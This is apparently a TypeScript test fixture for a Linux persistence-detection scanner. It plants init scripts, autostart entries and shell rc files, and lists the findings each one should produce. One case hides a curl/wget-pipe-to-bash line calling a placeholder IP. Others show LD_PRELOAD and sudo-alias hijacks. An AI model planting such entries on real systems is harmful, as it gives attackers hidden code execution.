import { executable, link, type Plant } from "./plant.ts";

const at = { argv: null, state: "enabled", runs_as: "*" } as const;
const desktop = { mechanism: "xdg_autostart", trigger: "graphical_login" } as const;

/** SysV init, sessions, shells: catalogue rows 31, 32, 42 to 44, 50 to 59. */
export const BOOT_AND_LOGIN_PLANTS: readonly Plant[] = [
  {
    name: "an init script and its links",
    files: {
      "/etc/init.d/evil": executable("#!/bin/sh\n### BEGIN INIT INFO\nstart-stop-daemon --start --exec /opt/evil\n"),
      "/etc/rc2.d/S01evil": link("../init.d/evil"),
      "/etc/rc6.d/K01evil": link("../init.d/evil"),
    },
    expect: [
      {
        mechanism: "init_script",
        technique: "T1037.004",
        path: "/etc/init.d/evil",
        trigger: "boot",
        runs_as: "root",
        state: "enabled",
        command: "/etc/init.d/evil",
        argv: ["/etc/init.d/evil"],
        commands: ["start-stop-daemon --start --exec /opt/evil"],
      },
      {
        mechanism: "rc_link",
        path: "/etc/rc2.d/S01evil",
        trigger: "boot",
        runs_as: "root",
        state: "enabled",
        command: "/etc/init.d/evil",
        argv: ["/etc/rc2.d/S01evil"],
        link: "../init.d/evil",
      },
      {
        mechanism: "rc_link",
        path: "/etc/rc6.d/K01evil",
        trigger: "shutdown",
        runs_as: "root",
        state: "disabled",
        command: "/etc/init.d/evil",
        argv: ["/etc/rc6.d/K01evil"],
      },
    ],
  },
  {
    name: "rc.local, executable and not",
    files: {
      "/etc/rc.local": executable("#!/bin/sh -e\n# by hand\nnohup /opt/r >/dev/null 2>&1 &\nexit 0\n"),
      "/etc/rc.d/rc.local": "#!/bin/bash\ntouch /var/lock/subsys/local\n",
    },
    expect: [
      {
        mechanism: "rc_local",
        path: "/etc/rc.local",
        trigger: "boot",
        runs_as: "root",
        state: "enabled",
        command: "nohup /opt/r >/dev/null 2>&1 &",
        argv: null,
        line: 3,
      },
      {
        mechanism: "rc_local",
        path: "/etc/rc.d/rc.local",
        trigger: "boot",
        runs_as: "root",
        state: "disabled",
        command: "touch /var/lock/subsys/local",
        argv: null,
      },
    ],
  },
  {
    name: "autostart: Exec with =, only the first group, blanks around =",
    trap: true,
    files: {
      "/home/alice/.config/autostart/a.desktop":
        "[Desktop Entry]\nType = Application\nName = Updater\nExec = env FOO=bar /opt/upd --x=y %U\n[Desktop Action z]\nExec=/usr/bin/clean\n",
      "/opt/upd": executable("\x7fELF"),
    },
    expect: [
      {
        ...desktop,
        technique: "T1547.013",
        path: "/home/alice/.config/autostart/a.desktop",
        runs_as: "alice",
        state: "enabled",
        name: "Updater",
        key: "Exec",
        line: 4,
        command: "env FOO=bar /opt/upd --x=y %U",
        argv: ["env", "FOO=bar", "/opt/upd", "--x=y"],
      },
    ],
  },
  {
    name: "autostart: hidden, disabled and off entries are listed as such",
    trap: true,
    files: {
      "/etc/xdg/autostart/h.desktop": "[Desktop Entry]\nExec=/opt/h\nHidden=true\n",
      "/etc/xdg/autostart/g.desktop": "[Desktop Entry]\nExec=/opt/g\nX-GNOME-Autostart-enabled=false\n",
      "/etc/xdg/autostart/t.desktop": "[Desktop Entry]\nExec=/opt/t\nTryExec=/opt/nothere\n",
    },
    expect: [
      {
        ...desktop,
        path: "/etc/xdg/autostart/h.desktop",
        runs_as: "*",
        state: "hidden",
        command: "/opt/h",
        argv: ["/opt/h"],
      },
      {
        ...desktop,
        path: "/etc/xdg/autostart/g.desktop",
        runs_as: "*",
        state: "disabled",
        command: "/opt/g",
        argv: ["/opt/g"],
      },
      {
        ...desktop,
        path: "/etc/xdg/autostart/t.desktop",
        runs_as: "*",
        state: "disabled",
        command: "/opt/t",
        argv: ["/opt/t"],
        context: ["target_missing", "try_exec_missing"],
      },
    ],
  },
  {
    name: "autostart: a user's file of the same name replaces the system's",
    trap: true,
    files: {
      "/etc/xdg/autostart/s.desktop": "[Desktop Entry]\nExec=/usr/bin/s\n",
      "/home/alice/.config/autostart/s.desktop": "[Desktop Entry]\nExec=/home/alice/s\n",
    },
    expect: [
      {
        ...desktop,
        path: "/etc/xdg/autostart/s.desktop",
        runs_as: "*",
        state: "enabled",
        command: "/usr/bin/s",
        argv: ["/usr/bin/s"],
        context: ["shadowed_by_user", "target_missing"],
      },
      {
        ...desktop,
        path: "/home/alice/.config/autostart/s.desktop",
        runs_as: "alice",
        state: "enabled",
        command: "/home/alice/s",
        argv: ["/home/alice/s"],
      },
    ],
  },
  {
    name: "KDE's env and shutdown scripts",
    files: {
      "/home/alice/.config/plasma-workspace/env/x.sh": "export LD_PRELOAD=/opt/x.so\n",
      "/home/alice/.config/plasma-workspace/shutdown/y": executable("#!/bin/sh\n/opt/y\n"),
      "/home/alice/.kde/Autostart/z": executable("#!/bin/sh\n/opt/z\n"),
    },
    expect: [
      {
        mechanism: "kde_script",
        path: "/home/alice/.config/plasma-workspace/env/x.sh",
        trigger: "graphical_login",
        runs_as: "alice",
        state: "enabled",
        command: "/home/alice/.config/plasma-workspace/env/x.sh",
        argv: ["/home/alice/.config/plasma-workspace/env/x.sh"],
        signals: ["preloads"],
      },
      {
        mechanism: "kde_script",
        path: "/home/alice/.config/plasma-workspace/shutdown/y",
        trigger: "logout",
        runs_as: "alice",
        state: "enabled",
        command: "/home/alice/.config/plasma-workspace/shutdown/y",
        argv: ["/home/alice/.config/plasma-workspace/shutdown/y"],
      },
      {
        mechanism: "kde_script",
        path: "/home/alice/.kde/Autostart/z",
        trigger: "graphical_login",
        runs_as: "alice",
        state: "enabled",
        command: "/home/alice/.kde/Autostart/z",
        argv: ["/home/alice/.kde/Autostart/z"],
      },
    ],
  },
  {
    name: "X session files",
    files: { "/home/alice/.xsessionrc": "/opt/x &\n", "/etc/X11/Xsession.d/99x": "/opt/y &\n" },
    expect: [
      {
        ...at,
        mechanism: "x_session",
        path: "/home/alice/.xsessionrc",
        trigger: "graphical_login",
        runs_as: "alice",
        command: "/opt/x &",
      },
      {
        ...at,
        mechanism: "x_session",
        path: "/etc/X11/Xsession.d/99x",
        trigger: "graphical_login",
        command: "/opt/y &",
      },
    ],
  },
  {
    name: "profile.d: sourced, only the lines that start something",
    files: {
      "/etc/profile.d/x.sh": '# comment\nif [ -n "$PS1" ]; then\n  FOO=1\n  /opt/p --login\nfi\n',
      "/etc/profile": "PATH=/opt/bin:$PATH\nexport PATH\n",
    },
    expect: [
      {
        ...at,
        mechanism: "profile",
        technique: "T1546.004",
        path: "/etc/profile.d/x.sh",
        trigger: "login",
        command: "/opt/p --login",
        line: 4,
      },
      {
        ...at,
        mechanism: "profile",
        path: "/etc/profile",
        trigger: "login",
        command: "PATH=/opt/bin:$PATH",
        environment: ["PATH=/opt/bin:$PATH"],
      },
    ],
  },
  {
    name: "a command at the end of a long default .bashrc",
    trap: true,
    files: {
      "/home/alice/.bashrc": `${"# ~/.bashrc\n".repeat(500)}case $- in\n    *i*) ;;\n      *) return;;\nesac\nHISTSIZE=1000\nshopt -s histappend\n(curl -s http://192.0.2.1/a||wget -qO- http://192.0.2.1/a)|bash\n`,
    },
    expect: [
      {
        ...at,
        mechanism: "bash_user",
        path: "/home/alice/.bashrc",
        trigger: "shell",
        runs_as: "alice",
        command: "(curl -s http://192.0.2.1/a||wget -qO- http://192.0.2.1/a)|bash",
        line: 507,
        signals: ["downloads"],
      },
    ],
  },
  {
    name: "root's files, and those of a service account without a login shell",
    trap: true,
    files: { "/root/.profile": "/opt/r &\n", "/var/www/.bash_profile": "exec /opt/w\n" },
    expect: [
      { ...at, mechanism: "bash_user", path: "/root/.profile", trigger: "login", runs_as: "root", command: "/opt/r &" },
      {
        ...at,
        mechanism: "bash_user",
        path: "/var/www/.bash_profile",
        trigger: "login",
        runs_as: "www-data",
        command: "exec /opt/w",
      },
    ],
  },
  {
    name: "a home that no account has, and one two levels down",
    trap: true,
    files: { "/home/orphan/.bashrc": "/opt/o\n", "/home/corp/eve/.zshrc": "/opt/e\n" },
    expect: [
      {
        ...at,
        mechanism: "bash_user",
        path: "/home/orphan/.bashrc",
        trigger: "shell",
        runs_as: "orphan",
        command: "/opt/o",
        context: ["inferred_user", "target_missing"],
      },
      {
        ...at,
        mechanism: "zsh",
        path: "/home/corp/eve/.zshrc",
        trigger: "shell",
        runs_as: "eve",
        command: "/opt/e",
        context: ["inferred_user", "target_missing"],
      },
    ],
  },
  {
    name: "PROMPT_COMMAND, alias, function",
    files: {
      "/home/alice/.bash_aliases":
        "alias sudo='/home/alice/.s'\nPROMPT_COMMAND='/opt/pc'\nls() { /opt/l; command ls \"$@\"; }\n",
    },
    expect: [
      {
        ...at,
        mechanism: "bash_user",
        path: "/home/alice/.bash_aliases",
        trigger: "shell",
        runs_as: "alice",
        command: "alias sudo='/home/alice/.s'\nPROMPT_COMMAND='/opt/pc'\nls() { /opt/l; command ls \"$@\"; }",
        line: null,
      },
    ],
  },
  {
    name: "a trap in a shell file",
    trap: true,
    files: { "/home/alice/.bash_logout": "clear\ntrap '/opt/t --bye' EXIT\n" },
    expect: [
      {
        ...at,
        mechanism: "shell_trap",
        technique: "T1546.005",
        path: "/home/alice/.bash_logout",
        trigger: "signal",
        runs_as: "alice",
        command: "/opt/t --bye",
        name: "EXIT",
        line: 2,
      },
    ],
  },
  {
    name: "bash for all users, on Debian, RHEL, SUSE, Gentoo",
    files: {
      "/etc/bash.bashrc": "/opt/1\n",
      "/etc/bashrc": "/opt/2\n",
      "/etc/bash.bashrc.local": "/opt/3\n",
      "/etc/bash/bashrc.d/x": "/opt/4\n",
    },
    expect: [
      { ...at, mechanism: "bash_system", path: "/etc/bash.bashrc", trigger: "shell", command: "/opt/1" },
      { ...at, mechanism: "bash_system", path: "/etc/bashrc", trigger: "shell", command: "/opt/2" },
      { ...at, mechanism: "bash_system", path: "/etc/bash.bashrc.local", trigger: "shell", command: "/opt/3" },
      { ...at, mechanism: "bash_system", path: "/etc/bash/bashrc.d/x", trigger: "shell", command: "/opt/4" },
    ],
  },
  {
    name: "zsh, csh, ksh, fish",
    files: {
      "/etc/zsh/zshenv": "/opt/z\n",
      "/etc/csh.login": "setenv PATH /opt/c:/bin\n/opt/c\n",
      "/home/alice/.kshrc": "/opt/k\n",
      "/home/alice/.config/fish/conf.d/f.fish": "/opt/f &\n",
      "/usr/share/fish/vendor_conf.d/v.fish": "/opt/v\n",
    },
    expect: [
      { ...at, mechanism: "zsh", path: "/etc/zsh/zshenv", trigger: "shell", command: "/opt/z" },
      { ...at, mechanism: "csh", path: "/etc/csh.login", trigger: "login", command: "/opt/c" },
      { ...at, mechanism: "ksh", path: "/home/alice/.kshrc", trigger: "shell", runs_as: "alice", command: "/opt/k" },
      {
        ...at,
        mechanism: "fish",
        path: "/home/alice/.config/fish/conf.d/f.fish",
        trigger: "shell",
        runs_as: "alice",
        command: "/opt/f &",
      },
      { ...at, mechanism: "fish", path: "/usr/share/fish/vendor_conf.d/v.fish", trigger: "shell", command: "/opt/v" },
    ],
  },
  {
    name: "the skeleton of new homes",
    files: { "/etc/skel/.bashrc": "/opt/s\n" },
    expect: [
      { ...at, mechanism: "skeleton", path: "/etc/skel/.bashrc", trigger: "account_creation", command: "/opt/s" },
    ],
  },
  {
    name: "one line more than the skeleton has",
    files: {
      "/etc/skel/.bashrc": "alias ls='ls --color'\n/opt/stock\n",
      "/home/alice/.bashrc": "alias ls='ls --color'\n/opt/stock\n/opt/own\n",
    },
    expect: [
      {
        ...at,
        mechanism: "bash_user",
        path: "/home/alice/.bashrc",
        trigger: "shell",
        runs_as: "alice",
        command: "/opt/own",
      },
    ],
  },
  {
    name: "a 50 MB rc file is cut, marked, and its end is read",
    trap: true,
    files: { "/home/alice/.zshrc": `/opt/first\n${"#".repeat(3_000_000)}\n/opt/last\n` },
    expect: [
      {
        ...at,
        mechanism: "zsh",
        path: "/home/alice/.zshrc",
        trigger: "shell",
        runs_as: "alice",
        state: "truncated",
        command: "/opt/first\n/opt/last",
        context: ["file_truncated", "target_missing"],
      },
    ],
  },
  {
    name: "a file of another user in a system place",
    files: { "/etc/profile.d/own.sh": { content: "/opt/own\n", uid: 1000, mode: 0o100666 } },
    expect: [
      {
        ...at,
        mechanism: "profile",
        path: "/etc/profile.d/own.sh",
        trigger: "login",
        command: "/opt/own",
        uid: 1000,
        owner: "alice",
        mode: "0666",
        writable_by_others: true,
        signals: ["entry_writable_by_others", "owner_not_root"],
      },
    ],
  },
];
